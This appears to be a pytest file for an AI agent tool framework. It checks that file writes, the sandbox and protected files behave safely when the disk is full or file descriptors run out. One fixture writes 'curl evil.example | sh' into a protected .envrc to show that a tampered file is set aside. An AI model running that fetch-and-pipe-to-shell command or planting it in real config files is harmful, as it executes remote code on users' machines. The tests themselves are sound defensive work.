"""No room on the disk, or no descriptor left: old or new content, nothing left open, and it works again afterwards.

The kernel refuses what is written: a limit on the size of a file (RLIMIT_FSIZE) lets a part of a write through as a
full disk does, and one on descriptors (RLIMIT_NOFILE) fails every open. A fork of this process gets them.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import traceback
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.sandbox_runs import BACKENDS, backend
from toolcrib.agent import TranscriptFile, scan_transcript
from toolcrib.audit import AuditLog, read_key
from toolcrib.call import CallKey
from toolcrib.command.sandbox import Launch, NoSandbox, Sandbox
from toolcrib.command.sandbox.files.protected_files import ProtectedFiles
from toolcrib.context import Context
from toolcrib.errors import ToolcribError, ToolError
from toolcrib.facts import MaxOutput
from toolcrib.messages import Message
from toolcrib.question import Lasting, Scope
from toolcrib.result import ToolResult
from toolcrib.rules.approvals import ApprovalStore
from toolcrib.rules.rule_file import RuleFile
from toolcrib.rules.trust import ProjectRules, TrustStore
from toolcrib.secrets.secret_file import SecretFile
from toolcrib.secrets.stores import SecretError
from toolcrib.toolbox.approval import Approval
from toolcrib.toolbox.cap import cap
from toolcrib.tools import Shell, ShellParams, Workspace
from toolcrib.tools.backends import Write

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="descriptors are counted in /proc")

LIMIT = 256
FAILURES = (OSError, ToolcribError, ToolError, SecretError)


def in_fork(work: Callable[[], Any]) -> Any:
    """What a fork of this process returns, so that the limits of this one stay."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            os.close(reading)
            said = json.dumps(work())
            code = 0
        except BaseException:
            said = traceback.format_exc()
        finally:
            with os.fdopen(writing, "w") as out:
                out.write(said)
            os._exit(code)
    os.close(writing)
    with os.fdopen(reading) as file:
        said = file.read()
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0, said
    return json.loads(said)


def open_descriptors() -> list[str]:
    found = []
    for path in Path("/proc/self/fd").iterdir():
        try:
            found.append(f"{path.name}: {path.readlink()}")
        except FileNotFoundError:  # the one that lists them
            continue
    return found


def with_spare(count: int, work: Callable[[], Any]) -> Any:
    """Does the work while no more than so many descriptors can be opened at once."""
    filling: list[int] = []
    try:
        while True:
            filling.append(os.open(os.devnull, os.O_RDONLY))
    except OSError:
        pass
    for _ in range(count):
        os.close(filling.pop())
    try:
        return work()
    finally:
        for fd in filling:
            os.close(fd)


def attempts(run: Callable[[], Any], spares: list[int]) -> dict[str, Any]:
    """What a run gives with few descriptors, and which it left open; and what it gives with enough of them."""
    import resource

    resource.setrlimit(resource.RLIMIT_NOFILE, (LIMIT, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    first = run()  # it also starts what a process keeps for its commands, which depends on the limit
    before = open_descriptors()
    results, left = [], []
    for count in spares:
        results.append(with_spare(count, run))
        left.append(sorted({*open_descriptors()} - {*before}))
    return {"first": first, "results": results, "left": left, "last": run()}


@pytest.mark.promise(
    "faults.md",
    'A command that cannot be started leaves no descriptor open, and the result says "Too many open files".',
)
@pytest.mark.parametrize("command", ["echo a | cat", "x=a; echo $x"], ids=["plan", "script"])
@pytest.mark.parametrize("kind", [*BACKENDS, "none"])
def test_a_command_that_cannot_be_started_leaves_no_descriptor(
    kind: str, command: str, tmp_path: Path
) -> None:
    place = tmp_path / "ws"
    place.mkdir()
    sandbox: Sandbox = NoSandbox() if kind == "none" else backend(kind)(place)

    def work() -> dict[str, Any]:
        loop = asyncio.new_event_loop()
        shell = Shell(Workspace(place), grace=0.1, sandbox=sandbox)

        def run() -> str:
            try:
                params = ShellParams.model_validate({"command": command})
                return loop.run_until_complete(shell.execute(params, Context())).text
            except Exception as problem:
                return f"{type(problem).__name__}: {problem}"

        return attempts(run, [*range(0, 40, 3), 150])

    said = in_fork(work)
    assert said["first"] == said["last"] == "a"
    assert said["left"] == [[] for _ in said["left"]]
    failures = [words for words in said["results"] if words != "a"]
    assert failures and said["results"][-1] == "a"
    assert [words for words in failures if "Too many open files" not in words] == []


@pytest.mark.promise(
    "faults.md",
    "A sandbox for which too few are left refuses to run the command: it never protects fewer files instead.",
)
@pytest.mark.parametrize("kind", BACKENDS)
def test_a_sandbox_is_not_made_of_too_few_descriptors(kind: str, tmp_path: Path) -> None:
    """A folder that cannot be opened would look like one that nobody may enter, and would not be protected."""
    sandbox: Sandbox = backend(kind)(tmp_path)

    def work() -> list[str]:
        import resource

        def launched() -> str:
            try:
                sandbox.launch(["true"], cwd=str(tmp_path), env={}).close()
            except OSError as problem:
                return str(problem.strerror)
            return "launched"

        launched()
        resource.setrlimit(resource.RLIMIT_NOFILE, (LIMIT, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
        return [with_spare(count, launched) for count in (0, 1, 5, 15, 150)]

    assert in_fork(work) == ["Too many open files"] * 4 + ["launched"]


@pytest.mark.promise(
    "faults.md",
    "A protected file that a command changed and that cannot be put back is set aside, and that is said.",
)
def test_a_protected_file_that_cannot_be_put_back_is_set_aside_and_said(tmp_path: Path) -> None:
    """A command changed what it may not change, and there is no room for the old content."""
    envrc, other = tmp_path / ".envrc", tmp_path / ".mcp.json"
    envrc.write_text("use nix")
    other.write_text("{}")
    protected = ProtectedFiles(str(tmp_path), [str(envrc), str(other)])
    envrc.write_text("curl evil.example | sh")

    def work() -> list[list[str]]:
        import resource
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (3, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))
        launch = Launch([], {}, str(tmp_path))
        protected.restore(launch)
        return [launch.restored, launch.reverted()]

    restored, said = in_fork(work)
    assert restored == []
    assert len(said) == 1 and "could not be put back (File too large)" in said[0]
    names = {path.name.partition("-")[0]: path for path in tmp_path.iterdir()}
    assert set(names) == {".envrc.disabled", ".mcp.json"}
    assert "evil" in names[".envrc.disabled"].read_text()


def test_a_step_of_cleaning_up_that_fails_keeps_no_other_from_being_made() -> None:
    made: list[str] = []

    def fails(launch: Launch) -> None:
        raise OSError("no")

    launch = Launch(
        [], {}, "/", on_close=[lambda _: made.append("first"), fails, lambda _: made.append("last")]
    )
    with pytest.raises(OSError, match="no"):
        launch.close()
    assert made == ["last", "first"]
    launch.close()


# -- every file that is written


@dataclass
class Writer:
    """Something that keeps values in a file: writes one more, and says which it has."""

    write: Callable[[str], object]
    read: Callable[[], list[str]]


def transcript(place: Path) -> Writer:
    def write(value: str) -> None:
        with closing(TranscriptFile(place / "t.jsonl")) as file:
            file.message(Message.user(value))

    def read() -> list[str]:
        if not (place / "t.jsonl").exists():
            return []
        reading = scan_transcript(place / "t.jsonl")
        assert reading.problems == []
        return [message.text for message in reading.mended]

    return Writer(write, read)


def audit_log(place: Path) -> Writer:
    log = AuditLog(place / "a.jsonl", key=b"k" * 32)

    def read() -> list[str]:
        if not log.path.exists():
            return []
        check = AuditLog(log.path, key=b"k" * 32).check()
        assert check.ok, check
        return [json.loads(line)["value"] for line in log.path.read_text().splitlines()]

    return Writer(lambda value: log.note({"event": "note", "value": value}), read)


def audit_key(place: Path) -> Writer:
    def read() -> list[str]:
        return [path.name for path in place.iterdir() if len(path.read_text()) == 64]

    return Writer(lambda value: read_key(place / value), read)


def approvals(place: Path) -> Writer:
    store = ApprovalStore(place / "a.json")

    def write(value: str) -> None:
        store.add(Approval(value, "run", "identity", Scope.TOOL, Lasting.USER, at=1.0))

    return Writer(write, lambda: [item.id for item in ApprovalStore(place / "a.json").all()])


def trust(place: Path) -> Writer:
    store = TrustStore(place / "t.json")

    def write(value: str) -> None:
        store.add(ProjectRules(value, "d" * 64, RuleFile(value, (), None, ())))

    return Writer(write, lambda: [item.project for item in TrustStore(place / "t.json").all()])


def secrets_file(place: Path) -> Writer:
    store = SecretFile(place / "s.json")
    return Writer(
        lambda value: store.set(value, "x" * 40), lambda: list(SecretFile(place / "s.json").names())
    )


def edited(place: Path) -> Writer:
    """A file that a tool writes anew each time, with one line more."""
    workspace = Workspace(place)

    def read() -> list[str]:
        path = place / "f.txt"
        return path.read_text().splitlines() if path.exists() else []

    def write(value: str) -> None:
        workspace.apply([Write("f.txt", "".join(f"{line}\n" for line in [*read(), value]).encode())])

    return Writer(write, read)


def long_outputs(place: Path) -> Writer:
    def write(value: str) -> None:
        key = CallKey(value, 1, 0)
        shown = cap(ToolResult.of(f"{value}\n" * 20_000), MaxOutput(), "tool", place, key)
        if not shown.full_output:
            raise OSError("not kept")

    def read() -> list[str]:
        kept = [path.read_text().split("\n")[:-1] for path in place.iterdir()]
        assert all(len(lines) == 20_000 for lines in kept)
        return [lines[0] for lines in kept]

    return Writer(write, read)


WRITERS = [transcript, audit_log, audit_key, approvals, trust, secrets_file, edited, long_outputs]


def attempt(writer: Writer, value: str) -> str:
    """Writes a value: it is there or, if that fails, everything is as it was. Returns what was said."""
    import resource

    soft = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, soft[1]))
    before = sorted(writer.read())
    resource.setrlimit(resource.RLIMIT_FSIZE, soft)
    said = ""
    try:
        writer.write(value)
    except FAILURES as problem:
        said = str(problem)
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, soft[1]))
    after = sorted(writer.read())
    assert after == before if said else after == sorted([*before, value]), (before, after, said)
    return said


@pytest.mark.promise(
    "faults.md",
    "Each file that toolcrib writes has its old or its new content: transcripts, the audit "
    "log and its key, approvals, trust, secrets, files that tools edit, long outputs. It can "
    "be written again as soon as there is room.",
)
@pytest.mark.parametrize("make", WRITERS)
def test_a_full_disk_keeps_what_there_was(make: Callable[[Path], Writer], tmp_path: Path) -> None:
    def work() -> list[str]:
        import resource
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        hard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
        writer = make(tmp_path)
        said = []
        for number in range(3):
            for room in (0, 1, 20, 64, 100, 150, 200, 300, 400, 600):
                resource.setrlimit(resource.RLIMIT_FSIZE, (room, hard))
                said.append(attempt(writer, f"v{number}-{room}"))
            resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, hard))
            assert attempt(writer, f"w{number}") == ""
        return said

    said = in_fork(work)
    assert any(said)
    assert [path.name for path in tmp_path.glob("**/.*") if path.suffix != ".lock"] == []


@pytest.mark.promise(
    "faults.md",
    "Each file that toolcrib writes has its old or its new content, and no descriptor stays open.",
)
@pytest.mark.parametrize("make", WRITERS)
def test_no_descriptor_left_keeps_what_there_was(make: Callable[[Path], Writer], tmp_path: Path) -> None:
    def work() -> list[Any]:
        import resource

        writer = make(tmp_path)
        writer.write("first")
        resource.setrlimit(resource.RLIMIT_NOFILE, (LIMIT, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
        opened = open_descriptors()
        said = []
        for spare in range(8):
            before = sorted(writer.read())
            words = with_spare(spare, partial(failed, writer, f"v{spare}"))
            after = sorted(writer.read())
            assert after == before if words else after == sorted([*before, f"v{spare}"]), (after, words)
            said.append(words)
        assert sorted({*open_descriptors()} - {*opened}) == []
        assert attempt(writer, "last") == ""
        return said

    assert in_fork(work)[-1] == ""


def failed(writer: Writer, value: str) -> str:
    try:
        writer.write(value)
    except FAILURES as problem:
        return str(problem)
    return ""
